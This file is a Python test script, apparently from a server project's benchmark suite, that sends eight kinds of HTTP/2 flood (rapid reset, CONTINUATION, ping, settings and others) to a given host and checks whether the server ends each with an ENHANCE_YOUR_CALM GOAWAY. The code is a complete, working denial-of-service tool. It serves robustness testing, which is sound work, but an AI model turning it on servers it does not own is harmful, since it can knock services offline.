#!/usr/bin/python3
"""Floods an HTTP/2 server with prior knowledge, by Debian's python3-h2, whose frames are not this repository's.

  bench/Attacks/h2-attacker.py HOST PORT [PATH]

For each flood it prints how many frames the server has read at most, and the error code of its GOAWAY. PATH should be
that of a response that stays open. Exit code 1 if a flood was not ended with ENHANCE_YOUR_CALM.
"""
import socket
import sys

import h2.config
import h2.connection
import h2.events
import hyperframe.frame as frames

REPETITIONS = 20_000
BATCH = 20
ENHANCE_YOUR_CALM = 11


class Attacker:
    def __init__(self, host, port, path):
        self.socket = socket.create_connection((host, port))
        self.socket.settimeout(5)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.h2.initiate_connection()
        self.path = path
        self.code = None
        self.closed = False

        # The server's SETTINGS are acknowledged now, because no frame may come between HEADERS and CONTINUATION.
        self.send()
        self.receive(wait=True)
        self.send()

    def request(self, end=True):
        stream = self.h2.get_next_available_stream_id()
        fields = [(":method", "GET" if end else "POST"), (":scheme", "http"), (":authority", "x"), (":path", self.path)]
        self.h2.send_headers(stream, fields, end_stream=end)
        return stream

    def send(self, raw=b""):
        self.socket.sendall(self.h2.data_to_send() + raw)

    def receive(self, wait):
        self.socket.settimeout(5 if wait else 0.0001)
        try:
            data = self.socket.recv(65536)
        except (TimeoutError, BlockingIOError):
            return
        self.closed = not data
        for event in self.h2.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                self.code = event.error_code

    def run(self, repeat):
        sent = 0
        try:
            while sent < REPETITIONS and self.code is None and not self.closed:
                self.send(b"".join(repeat() or b"" for _ in range(BATCH)))
                sent += BATCH
                self.receive(wait=False)
            while self.code is None and not self.closed:
                self.receive(wait=True)
        except OSError:
            pass
        return sent


def rapid_reset(attacker):
    def repeat():
        attacker.h2.reset_stream(attacker.request(), error_code=8)
        return attacker.h2.data_to_send()

    return repeat


def window_overflow(attacker):
    def repeat():
        stream = attacker.request()
        return attacker.h2.data_to_send() + frames.WindowUpdateFrame(stream, window_increment=2**31 - 1).serialize()

    return repeat


def ping(attacker):
    return lambda: frames.PingFrame(0, opaque_data=b"12345678").serialize()


def settings(attacker):
    return lambda: frames.SettingsFrame(0, settings={4: 65535}).serialize()


def priority(attacker):
    return lambda: frames.PriorityFrame(101, depends_on=0, stream_weight=1).serialize()


def window_update(attacker):
    return lambda: frames.WindowUpdateFrame(0, window_increment=1).serialize()


def empty_data(attacker):
    stream = attacker.request(end=False)
    return lambda: frames.DataFrame(stream).serialize()


def continuation(attacker):
    stream = attacker.h2.get_next_available_stream_id()
    block = attacker.h2.encoder.encode([(":method", "GET"), (":scheme", "http"), (":path", attacker.path)])
    attacker.send(frames.HeadersFrame(stream, data=block).serialize())
    return lambda: frames.ContinuationFrame(stream).serialize()


def main():
    host, port, path = sys.argv[1], int(sys.argv[2]), (sys.argv[3:] or ["/"])[0]
    failed = False
    for flood in (
        rapid_reset,
        window_overflow,
        ping,
        settings,
        priority,
        window_update,
        empty_data,
        continuation,
    ):
        attacker = Attacker(host, port, path)
        sent = attacker.run(flood(attacker))
        attacker.socket.close()
        failed |= attacker.code != ENHANCE_YOUR_CALM
        print(f"{flood.__name__}: {sent} sent, GOAWAY {attacker.code}, {'closed' if attacker.closed else 'open'}")
    sys.exit(failed)


if __name__ == "__main__":
    main()
